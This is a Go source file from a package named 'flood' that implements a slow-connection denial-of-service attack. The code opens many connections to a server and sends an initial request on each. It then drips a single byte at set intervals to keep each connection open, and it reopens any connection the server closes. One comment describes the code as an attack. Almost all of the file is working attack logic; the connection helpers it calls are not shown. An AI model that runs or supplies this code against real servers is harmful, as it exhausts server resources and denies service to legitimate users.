package flood

import (
	"context"
	"sync"
	"time"
)

// hang opens Many connections, sends First on each, and then a byte of Chunk every so often, or nothing more if there is
// no chunk. With Again, those that the server ends are opened anew. What it counts as answers are connections on which
// the server said something.
func hang(ctx context.Context, o *order, r *record) {
	var connections sync.WaitGroup
	for range o.Many {
		connections.Go(func() {
			for again := true; again && ctx.Err() == nil; again = o.Again {
				r.ended(hangOn(ctx, o, r))
			}
		})
	}
	connections.Wait()
}

func hangOn(ctx context.Context, o *order, r *record) (end string) {
	w, refused := connect(ctx, o, first(o.Paths))
	if refused != "" {
		return refused
	}
	defer w.Close() //nolint:errcheck // the attack is over
	r.sent(1)
	if _, err := w.Write(o.First); err != nil {
		return ending(err)
	}
	over := make(chan struct{})
	var dripping sync.WaitGroup
	dripping.Go(func() { w.drip(o, over) })
	defer dripping.Wait()
	defer close(over)
	return w.listen(first(o.Paths), r)
}

func first(paths []string) string {
	if len(paths) == 0 {
		return ""
	}
	return paths[0]
}

// drip writes a byte every so often.
func (w *wire) drip(o *order, over <-chan struct{}) {
	if len(o.Chunk) == 0 {
		return
	}
	tick := time.NewTicker(o.Every)
	defer tick.Stop()
	for at := 0; ; at = (at + 1) % len(o.Chunk) {
		select {
		case <-tick.C:
		case <-over:
			return
		}
		if _, err := w.Write(o.Chunk[at : at+1]); err != nil {
			return // the reader finds out how it ended
		}
	}
}
